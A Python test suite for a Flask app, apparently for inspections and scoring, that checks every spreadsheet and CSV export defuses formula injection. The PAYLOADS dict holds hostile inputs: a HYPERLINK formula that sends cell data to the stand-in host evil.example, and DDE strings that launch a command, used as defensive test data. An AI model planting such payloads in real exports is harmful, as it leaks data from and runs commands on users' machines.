"""No formula in any export: every URL and command that writes a spreadsheet (XLSX or CSV) is
listed here — the test fails when one is added that is not — and each is given data that looks
like a formula (``=HYPERLINK(…)``, ``+``, ``-``, ``@``, a tab or a CR first) where it shows it;
the file must hold it as text. In an XLSX the text is kept exact, as a string cell marked
"typed after an apostrophe" (so a table downloaded, edited and uploaded again reads back the same
name); in a CSV it gets the apostrophe."""
from __future__ import annotations

import csv
import io
import re
from datetime import timedelta

import click
import openpyxl
from sqlalchemy import select, update

from documents.cells import FORMULA_START, looks_like_formula
from models import Attachment, CampaignUnit, CriteriaSet, Criterion, Inspection, Unit
from tests.test_campaign_admin import new_draft
from tests.test_scoring import submitted
from tests.web import csrf_token, login

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&B2,"Click")'
PAYLOADS = {
    "unit": HYPERLINK, "full_name": "\t=1+1", "criterion": "-2+3+cmd|' /C calc'!A0", "set": "@SUM(A1:A9)",
    "guidance": "+cmd|' /C calc'!A0", "case_unit": '=HYPERLINK("http://evil.example/","Mở")', "comment": "=2+2", "schedule": "\r=1+1",
}

# What the product offers, found from the app: every URL rule that serves a spreadsheet, and every
# command with an --out that can write one. A new one fails the test until it is covered below.
WEB_EXPORTS = {
    "/admin/campaign/table/<int:campaign_id>/<what>.xlsx",
    "/admin/scoring/export/<int:set_id>.<any(toml, xlsx):format>",
    "/admin/scoring/template/<any(office, commune):kind>.xlsx",
    "/admin/scoring/ranking.xlsx",
    "/admin/<view>/export/<export_type>/",  # Flask-Admin's CSV/XLSX export of every list view
    "/admin/inspection/file/<int:attachment_id>",  # a generated document (summary_xlsx) as it was kept
}
CLI_EXPORTS = {"scoring export", "scoring ranking", "documents render", "documents get", "plans export"}


def _spreadsheet_rules(app) -> set[str]:
    found = set()
    for rule in app.url_map.iter_rules():
        if re.search(r"xlsx|csv|/export|/file/", rule.rule) and "static" not in rule.rule:
            found.add(re.sub(r"^/admin/[a-z_]+/export/<export_type>/$", "/admin/<view>/export/<export_type>/", rule.rule))
    return found - {"/admin/scoring/export/<int:set_id>"}  # the TOML file of a set


def _commands_with_out() -> set[str]:
    import importlib

    from cli import GROUP_NAMES

    found = set()
    for name in GROUP_NAMES:
        group = importlib.import_module(f"cli.{name}").group
        for command_name, command in group.commands.items():
            if isinstance(command, click.Command) and any(param.name == "out" for param in command.params):
                found.add(f"{name} {command_name}")
    return found


def test_every_export_is_listed(app):
    assert _spreadsheet_rules(app) == WEB_EXPORTS
    assert _commands_with_out() == CLI_EXPORTS


def check_xlsx(content: bytes) -> list[str]:
    """Every cell of every sheet: no formula; a formula-looking text stored as text. The texts."""
    assert content[:2] == b"PK"
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if looks_like_formula(cell.value):
                    assert cell.data_type == "s" and cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


def check_csv(content: bytes) -> list[str]:
    cells = [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")) for cell in row]
    assert cells and not [cell for cell in cells if cell.startswith(FORMULA_START)]
    return cells


def _seed_payloads(app, tmp_path) -> dict[str, int]:
    """A submitted self-assessment (so the ranking has a row), and the payloads in the texts the
    exports show: a unit's name and full name, a case's unit name, a criterion's title and
    guidance, the criteria set's title."""
    database = app.extensions["database"]
    inspection = submitted(database, tmp_path)
    with database.session() as session:
        commune = session.scalar(select(Unit).where(Unit.kind == "commune").order_by(Unit.id))
        commune.name, commune.full_name = PAYLOADS["unit"], PAYLOADS["full_name"]
        session.execute(update(Inspection).where(Inspection.id == inspection.id).values(unit_name=PAYLOADS["case_unit"]))
        criteria_set = session.scalar(select(CriteriaSet).where(CriteriaSet.campaign_id == inspection.campaign_id))
        criteria_set.title = PAYLOADS["set"]
        criterion = session.scalar(select(Criterion).where(Criterion.set_id == criteria_set.id).order_by(Criterion.id))
        criterion.title, criterion.guidance = PAYLOADS["criterion"], PAYLOADS["guidance"]
        session.commit()
        return {"set": criteria_set.id, "campaign": inspection.campaign_id, "case": inspection.id}


def test_no_export_writes_a_formula(app, tmp_path, cli):
    ids = _seed_payloads(app, tmp_path)
    client = app.test_client()
    login(client, "coordinator")
    code = "tuky-2023"
    shown: list[str] = []

    draft = new_draft(client)
    with app.extensions["database"].session() as session:
        session.execute(update(CampaignUnit).where(CampaignUnit.campaign_id == draft, CampaignUnit.kind == "direct")
                        .values(unit_name=PAYLOADS["schedule"]))
        session.commit()
    for what in ("units", "schedule"):
        response = client.get(f"/admin/campaign/table/{draft}/{what}.xlsx")
        assert response.status_code == 200
        shown += check_xlsx(response.data)

    response = client.get(f"/admin/scoring/export/{ids['set']}.xlsx", query_string={"campaign": code})
    assert response.status_code == 200
    shown += check_xlsx(response.data)
    for kind in ("office", "commune"):
        check_xlsx(client.get(f"/admin/scoring/template/{kind}.xlsx").data)
    response = client.get("/admin/scoring/ranking.xlsx", query_string={"campaign": code})
    assert response.status_code == 200
    shown += check_xlsx(response.data)

    rendered = client.post("/admin/documents/render/summary_xlsx", data={"csrf_token": csrf_token(client, "/admin/documents/"), "format": "docx"})
    assert rendered.status_code == 302
    with app.extensions["database"].session() as session:
        summary = session.scalar(select(Attachment).where(Attachment.kind == "summary_xlsx").order_by(Attachment.id.desc()))
    shown += check_xlsx(client.get(f"/admin/inspection/file/{summary.id}").data)

    # Flask-Admin's exports: the audit log is the one list that offers them, with a comment typed by a user.
    from workflow.engine import service
    from workflow.people.permissions import Actor

    with app.extensions["database"].session() as session:
        case = session.scalar(select(Inspection).where(Inspection.state == "planned", Inspection.id != ids["case"]).order_by(Inspection.id))
        service.fire(session, case.id, "cancel", Actor("coordinator@tuky.local", "coordinator"), case.created_at + timedelta(days=1),
                     reason=PAYLOADS["comment"], comment=PAYLOADS["comment"])
    offered = 0
    for rule in app.url_map.iter_rules():
        if rule.rule.endswith("/export/<export_type>/"):
            for export_type in ("csv", "xlsx"):
                response = client.get(rule.rule.replace("<export_type>", export_type))
                if response.status_code != 200:
                    continue
                offered += 1
                shown += check_csv(response.data) if export_type == "csv" else check_xlsx(response.data)
    assert offered == 2  # the audit log's CSV and XLSX

    # The command line's spreadsheets.
    out = tmp_path / "cli"
    out.mkdir()
    cli("scoring", "sample", code, "commune")
    for args in (("scoring", "export", code, "commune", "--out", str(out / "set.xlsx")),
                 ("scoring", "ranking", code, "--out", str(out / "ranking.xlsx")),
                 ("documents", "render", "summary-xlsx", "--campaign", code, "--out", str(out / "summary.xlsx"))):
        cli(*args)
        check_xlsx((out / args[-1].rsplit("/", 1)[-1]).read_bytes())

    for name, payload in PAYLOADS.items():
        assert payload in shown or "'" + payload in shown, name


def test_a_table_with_formula_looking_names_reads_back_the_same(app):
    """Down and up again: the table's reader (openpyxl, values only) gets the exact name back, not
    an apostrophe more, and the upload of the unchanged table is accepted."""
    with app.extensions["database"].session() as session:
        session.execute(update(Unit).where(Unit.name == "UBND xã Hà Kỳ").values(name=HYPERLINK))
        session.commit()
    client = app.test_client()
    login(client, "coordinator")
    draft = new_draft(client)
    table = client.get(f"/admin/campaign/table/{draft}/units.xlsx").data
    names = [row[1] for row in openpyxl.load_workbook(io.BytesIO(table), data_only=True).active.iter_rows(values_only=True)]
    assert HYPERLINK in names
    path = f"/admin/campaign/plan/{draft}/units"
    response = client.post(path, data={"csrf_token": csrf_token(client, path), "table": (io.BytesIO(table), "bang.xlsx")},
                           content_type="multipart/form-data")
    assert response.status_code == 302, response.get_data(as_text=True)[-1500:]
